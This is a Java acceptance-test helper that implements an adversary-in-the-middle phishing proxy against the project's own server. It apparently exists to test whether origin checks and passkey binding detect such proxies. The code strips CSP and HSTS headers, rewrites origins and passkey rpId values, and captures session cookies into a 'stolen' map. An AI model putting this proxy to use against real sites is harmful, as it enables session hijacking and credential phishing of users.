package dev.sallyport.acceptance;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.Executors;

/// A page that looks like ours because it is ours: everything is passed on to the node in the node's name, and what
/// comes back is rewritten so that the victim's browser is content. The node sees one caller, the proxy, with the
/// victim's browser's name. Whatever passes is kept, the session's cookie first of all.
final class PhishingProxy implements AutoCloseable {
    /// The network that the proxy stands in, as the node's own proxy reports it.
    static final String ADDRESS = "198.51.100.66";

    /// What would tell the browser that something is wrong, and what belongs to one connection.
    private static final Set<String> SWALLOWED = Set.of(
            "content-security-policy",
            "strict-transport-security",
            "secure-session-registration",
            "content-length",
            "transfer-encoding",
            "connection",
            "date");

    private static final Set<String> NOT_PASSED = Set.of(
            "host", "connection", "content-length", "accept-encoding", "x-forwarded-for", "upgrade-insecure-requests");

    final Map<String, String> stolen = new ConcurrentHashMap<>();
    /// A clumsy proxy lets the browser say where it really is.
    volatile boolean rewritesOrigin = true;

    /// One who knows about passkeys lets the browser ask for one of his own page.
    volatile boolean rewritesPasskeys;

    private final Node node;
    private final String host;
    private final HttpServer server;

    PhishingProxy(Node node) {
        this(node, "127.0.0.1");
    }

    /// @param host another name of this machine
    PhishingProxy(Node node, String host) {
        this.node = node;
        this.host = host;
        try {
            server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        server.setExecutor(Executors.newVirtualThreadPerTaskExecutor());
        server.createContext("/", this::pass);
        server.start();
    }

    /// Another host than the node's, so that the two share no cookies.
    URI origin() {
        return URI.create("http://" + host + ":" + server.getAddress().getPort());
    }

    private void pass(HttpExchange exchange) throws IOException {
        try (exchange) {
            var request = HttpRequest.newBuilder(
                            URI.create("http://127.0.0.1:" + node.outside() + exchange.getRequestURI()))
                    .timeout(Duration.ofSeconds(30))
                    .header("Host", node.origin().getAuthority())
                    .header("X-Forwarded-For", ADDRESS)
                    .method(
                            exchange.getRequestMethod(),
                            HttpRequest.BodyPublishers.ofByteArray(
                                    exchange.getRequestBody().readAllBytes()));
            exchange.getRequestHeaders().forEach((name, values) -> {
                if (!NOT_PASSED.contains(name.toLowerCase(Locale.ROOT))) {
                    values.forEach(value -> request.header(name, towardsTheNode(name, value)));
                }
            });
            HttpResponse<byte[]> answer = Node.HTTP.send(request.build(), HttpResponse.BodyHandlers.ofByteArray());
            answer.headers().map().forEach((name, values) -> {
                if (!isSwallowed(name.toLowerCase(Locale.ROOT))) {
                    exchange.getResponseHeaders()
                            .put(
                                    name,
                                    values.stream()
                                            .map(value -> towardsTheVictim(name, value))
                                            .toList());
                }
            });
            byte[] body = body(answer);
            exchange.sendResponseHeaders(answer.statusCode(), body.length == 0 ? -1 : body.length);
            if (body.length > 0) {
                exchange.getResponseBody().write(body);
            }
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    /// Our pages send no referrer, for which browsers write `Origin: null`; a proxy that does not pass that wish on
    /// hears its own name.
    private boolean isSwallowed(String name) {
        return name.startsWith(":") || SWALLOWED.contains(name) || (!rewritesOrigin && name.equals("referrer-policy"));
    }

    private String towardsTheNode(String name, String value) {
        return switch (name.toLowerCase(Locale.ROOT)) {
            case "origin", "referer" ->
                rewritesOrigin
                        ? value.replace(origin().toString(), node.origin().toString())
                        : value;
            case "cookie" ->
                String.join(
                        "; ",
                        List.of(value.split("; ", -1)).stream()
                                .map(cookie -> "__Host-" + cookie)
                                .toList());
            default -> value;
        };
    }

    private String towardsTheVictim(String name, String value) {
        if (!name.equalsIgnoreCase("set-cookie")) {
            return value.replace(node.origin().toString(), origin().toString());
        }
        String pair = value.split(";", 2)[0];
        int equals = pair.indexOf('=');
        if (equals < pair.length() - 1) {
            stolen.put(pair.substring(0, equals), pair.substring(equals + 1));
        }
        return value.replaceFirst("^__Host-", "").replaceAll("(?i); *(secure|domain=[^;]*)", "");
    }

    private byte[] body(HttpResponse<byte[]> answer) {
        String type = answer.headers().firstValue("Content-Type").orElse("");
        if (!type.startsWith("text/") && !type.startsWith("application/json")) {
            return answer.body();
        }
        String text = new String(answer.body(), StandardCharsets.UTF_8)
                .replace(node.origin().toString(), origin().toString());
        if (rewritesPasskeys) {
            String ours = node.origin().getHost();
            text = text.replaceAll("(rpId(?:\"|&#34;):(?:\"|&#34;))" + ours, "$1" + host);
        }
        return text.getBytes(StandardCharsets.UTF_8);
    }

    @Override
    public void close() {
        server.stop(0);
    }
}
